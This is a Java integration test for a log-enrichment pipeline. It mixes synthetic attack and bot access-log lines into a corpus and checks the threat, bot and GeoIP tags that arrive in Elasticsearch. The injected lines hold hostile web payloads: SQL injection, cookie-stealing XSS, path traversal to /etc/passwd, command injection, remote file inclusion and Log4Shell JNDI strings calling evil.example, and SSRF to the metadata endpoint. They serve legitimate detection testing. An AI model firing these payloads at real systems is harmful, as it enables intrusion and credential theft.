package caravan.enrich;

import static org.assertj.core.api.Assertions.assertThat;

import caravan.enrich.chain.Enrichers;
import caravan.event.LogEvent;
import caravan.it.Pipeline;
import caravan.parse.Corpus;
import caravan.parse.LineParser;
import caravan.parse.ParseException;
import caravan.parse.Parsers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

/**
 * Enrichment through the real pipeline: a followed file, Kafka, the index route's enrich steps,
 * Elasticsearch's mappings and aggregations. The file is the real corpus with attacks, bots and
 * addresses from the GeoIP test databases mixed in.
 */
class EnrichmentIT {
    private static final Path CORPUS = Corpus.COMBINED_10K;
    private static final Path GEOIP = Path.of("src/test/resources/geoip");
    private static final String BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0";

    private static String line(String ip, String request, String ua) {
        return ip + " - - [19/May/2015:12:00:00 +0000] \"" + request + "\" 404 196 \"-\" \"" + ua + "\"";
    }

    /** Attacks, bots and located clients, each with what it must produce. */
    private static final List<String> INJECTED = List.of(
            line("81.2.69.142", "GET /products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1",
                    "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            line("81.2.69.142", "GET /login.php?user=admin%27%20or%20%271%27%3D%271 HTTP/1.1", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            line("81.2.69.142", "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1", BROWSER),
            line("81.2.69.142", "GET /download?file=..%2f..%2f..%2fapp.conf HTTP/1.1", BROWSER),
            line("89.160.20.128", "GET /index.php?page=../../../../etc/passwd HTTP/1.1", BROWSER),
            line("89.160.20.128", "GET /index.php?page=http://evil.example/shell.txt? HTTP/1.1", BROWSER),
            line("89.160.20.128", "GET /cgi-bin/ping?host=127.0.0.1;id HTTP/1.1", BROWSER),
            line("216.160.83.56", "GET / HTTP/1.1", "${jndi:ldap://evil.example/a}"),
            line("216.160.83.56", "GET /?x=${${lower:j}ndi:${lower:l}dap://evil.example/a} HTTP/1.1", BROWSER),
            line("216.160.83.56", "GET /.env HTTP/1.1", "curl/8.5.0"),
            line("216.160.83.56", "GET /.git/config HTTP/1.1", "curl/8.5.0"),
            line("216.160.83.56", "GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1", "python-requests/2.31.0"),
            line("1.128.0.1", "GET / HTTP/1.1", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
            line("1.128.0.1", "GET / HTTP/1.1", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
            line("1.128.0.1", "GET /health HTTP/1.1", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
            line("1.128.0.1", "GET /blog/ HTTP/1.1",
                    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"),
            line("89.160.20.128", "GET /blog/union-station HTTP/1.1", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"));

    private Properties settings(Pipeline p) {
        Properties s = p.properties();
        s.setProperty("caravan.enrich.geoip.city-db", GEOIP.resolve("GeoIP2-City-Test.mmdb").toString());
        s.setProperty("caravan.enrich.geoip.asn-db", GEOIP.resolve("GeoLite2-ASN-Test.mmdb").toString());
        return s;
    }

    /** What the enrichers themselves say about these lines, as per-value document counts of a field. */
    private static Map<String, Long> counted(List<Enricher> enrichers, List<String> lines, String field) {
        LineParser parser = Parsers.forFormat("combined");
        Map<String, Long> out = new TreeMap<>();
        for (String l : lines) {
            LogEvent e = new LogEvent();
            try {
                parser.parse(l, e);
            } catch (ParseException ex) {
                continue;
            }
            enrichers.forEach(x -> x.enrich(e));
            Object v = e.get(field);
            Collection<?> values = v instanceof Collection<?> c ? c : v == null ? List.of() : List.of(v);
            for (Object o : values) {
                out.merge(String.valueOf(o), 1L, Long::sum);
            }
        }
        return out;
    }

    private static Map<String, Long> plus(Map<String, Long> a, Map<String, Long> b) {
        Map<String, Long> out = new TreeMap<>(a);
        b.forEach((k, v) -> out.merge(k, v, Long::sum));
        return out;
    }

    @Test
    void attacksAndBotsMixedIntoTheCorpusArriveTaggedInElasticsearch() throws Exception {
        List<String> corpus = Files.readAllLines(CORPUS, StandardCharsets.UTF_8);
        List<String> lines = new ArrayList<>(corpus);
        // Spread the injected lines through the file rather than appending them at the end.
        for (int i = 0; i < INJECTED.size(); i++) {
            lines.add(500 * (i + 1), INJECTED.get(i));
        }

        // Not try-with-resources: Pipeline.close() declares Exception, which -Xlint flags there.
        Pipeline p = new Pipeline();
        try {
            Properties s = settings(p);
            List<Enricher> enrichers = Enrichers.fromSettings(key -> s.getProperty(key, defaults(key)));
            Map<String, Long> injectedThreats = counted(enrichers, INJECTED, "caravan.threat.categories");
            Map<String, Long> injectedBots = counted(enrichers, INJECTED, "caravan.bot.category");
            Map<String, Long> injectedCountries = counted(enrichers, INJECTED, "source.geo.country_iso_code");
            assertThat(injectedThreats).isEqualTo(Map.of(
                    "sql_injection", 2L, "xss", 1L, "path_traversal", 2L, "local_file_inclusion", 1L,
                    "remote_file_inclusion", 1L, "command_injection", 1L, "log4shell", 2L,
                    "sensitive_file_probe", 2L, "ssrf", 1L));
            assertThat(injectedBots).isEqualTo(Map.of(
                    "security_scanner", 3L, "scripted_client", 3L, "monitoring", 2L, "ai_crawler", 1L, "search_engine", 1L));
            assertThat(injectedCountries).isEqualTo(Map.of("GB", 4L, "SE", 4L, "US", 5L));
            assertThat(counted(enrichers, corpus, "caravan.threat.categories")).isEmpty();

            Path log = p.dir.resolve("access.log");
            Files.createFile(log);
            p.tailRoute("it-enrich", log, "combined", p.dir.resolve("checkpoints"));
            p.start(s);
            Files.write(log, lines, StandardCharsets.UTF_8, StandardOpenOption.APPEND);
            long expected = corpus.size() + INJECTED.size();
            p.awaitAllCommitted(expected, Duration.ofMinutes(4));
            long indexed = p.count();
            assertThat(indexed).isGreaterThanOrEqualTo(expected - 2); // a corpus line the parser cannot read goes to the DLQ

            assertThat(p.terms("caravan.threat.categories")).isEqualTo(injectedThreats);
            assertThat(p.terms("caravan.bot.category"))
                    .isEqualTo(plus(counted(enrichers, corpus, "caravan.bot.category"), injectedBots));
            assertThat(p.terms("source.geo.country_iso_code"))
                    .isEqualTo(plus(counted(enrichers, corpus, "source.geo.country_iso_code"), injectedCountries));
            assertThat(p.terms("caravan.threat.severity")).containsEntry("critical", 3L);
            assertThat(p.terms("user_agent.name")).containsKeys("Googlebot", "Chrome", "Firefox");

            // location is a geo_point: the London client is within 10 km of the City.
            var es = p.search();
            long nearLondon = es.call("POST", "/" + p.indices() + "/_count", """
                    {"query": {"geo_distance": {"distance": "10km", "source.geo.location": {"lat": 51.51, "lon": -0.09}}}}
                    """).path("count").asLong();
            assertThat(nearLondon).isEqualTo(4L + counted(enrichers, corpus, "source.geo.city_name").getOrDefault("London", 0L));
        } finally {
            p.close();
        }
    }

    private static String defaults(String key) {
        try (var in = EnrichmentIT.class.getResourceAsStream("/application.properties")) {
            Properties p = new Properties();
            p.load(in);
            return p.getProperty(key);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
